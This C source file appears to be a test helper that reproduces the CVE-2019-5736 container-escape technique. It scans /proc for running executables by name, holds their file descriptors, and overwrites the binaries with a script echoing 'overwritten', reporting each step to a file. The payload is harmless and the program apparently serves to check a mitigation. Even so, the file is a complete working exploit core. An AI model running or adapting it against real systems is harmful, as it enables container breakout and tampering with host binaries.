/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * The attack of CVE-2019-5736, run by root of a machine: opens the executable of each process that it sees, and overwrites it
 * once no process executes it any more.
 *
 *     overwrite-exe REPORT NAME…    NAME: the last component of what a link /proc/PID/exe may say; REPORT gets each link that was
 *                                   seen, one a line, and "overwritten NAME"
 */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { LINKS_MAX = 256, HELD_MAX = 64 };

static char links[LINKS_MAX][256];
static int held[HELD_MAX];
static unsigned n_links, n_held;

static int is_target(const char *link, char **names)
{
        const char *slash = strrchr(link, '/');

        for (; slash && *names; names++)
                if (strcmp(slash + 1, *names) == 0)
                        return 1;
        return 0;
}

static void look_at(const char *pid, char **names, FILE *report)
{
        char path[300], link[256];
        ssize_t n;
        unsigned i;
        int fd;

        snprintf(path, sizeof(path), "/proc/%s/exe", pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        n = readlink(path, link, sizeof(link) - 1);
        link[n > 0 ? n : 0] = '\0';
        for (i = 0; i < n_links && strcmp(links[i], link) != 0; i++)
                ;
        if (i == n_links && n_links < LINKS_MAX) {
                strcpy(links[n_links++], link);
                fprintf(report, "%s\n", link);
                fflush(report);
        }
        if (is_target(link, names) && n_held < HELD_MAX)
                held[n_held++] = fd;
        else
                close(fd);
}

/* Descriptors with which it can be written to, by any way. */
static void overwrite(FILE *report)
{
        static const char text[] = "#!/bin/sh\necho overwritten\n";

        for (unsigned i = 0; i < n_held; i++) {
                char path[64], link[256] = "";
                int fd;

                snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
                fd = open(path, O_WRONLY | O_TRUNC);
                if (fd < 0)
                        continue;
                if (readlink(path, link, sizeof(link) - 1) > 0 && write(fd, text, sizeof(text) - 1) > 0) {
                        fprintf(report, "overwritten %s\n", strrchr(link, '/') + 1);
                        fflush(report);
                }
                close(fd);
                close(held[i]);
                held[i] = held[--n_held];
        }
}

int main(int argc, char *argv[])
{
        FILE *report = argc > 2 ? fopen(argv[1], "w") : NULL;

        if (!report)
                return 1;
        for (;;) {
                DIR *proc = opendir("/proc");
                struct dirent *e;

                while (proc && (e = readdir(proc)))
                        if (e->d_name[0] >= '1' && e->d_name[0] <= '9' && atoi(e->d_name) != getpid())
                                look_at(e->d_name, argv + 2, report);
                if (proc)
                        closedir(proc);
                overwrite(report);
        }
}
